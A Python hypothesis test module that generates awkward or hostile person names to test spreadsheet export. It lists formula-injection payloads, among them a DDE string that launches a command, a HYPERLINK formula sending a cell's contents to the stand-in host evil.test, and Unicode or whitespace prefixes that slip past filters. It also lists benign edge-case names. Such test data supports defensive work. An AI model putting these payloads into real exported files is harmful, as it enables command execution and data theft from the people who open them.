"""What people may be called who mean harm to a spreadsheet, or whose names are hard on one."""

from hypothesis import strategies as st

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.test?"&A1,"Ana")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}\N{RIGHT-TO-LEFT MARK}=1+1",
    "\x00=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{SMALL HYPHEN-MINUS}1",
    "\N{MINUS SIGN}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "|calc",
    "%0A=1",
    "\tAna",
    "\rAna",
    "\nAna",
)
HARMLESS = (
    "Ana Lind",
    "O’Brien-Smith",
    "'t Hooft",
    'Ana "the = sign" Lind',
    "Ana; =1+1, Lind",
    "Ana\nLind\r\nthe third",
    "ليلى الحدّاد",
    "\N{RIGHT-TO-LEFT OVERRIDE}Ana",
    "👩🏽‍💻 Ana",
    "1 - 1",
    "x" * 200,
)
NAMES = st.one_of(
    st.text(min_size=1),
    st.sampled_from(FORMULAS + HARMLESS),
    st.tuples(st.sampled_from(("=", "+", "-", "@", "\t", "\r", " =")), st.text()).map("".join),
)
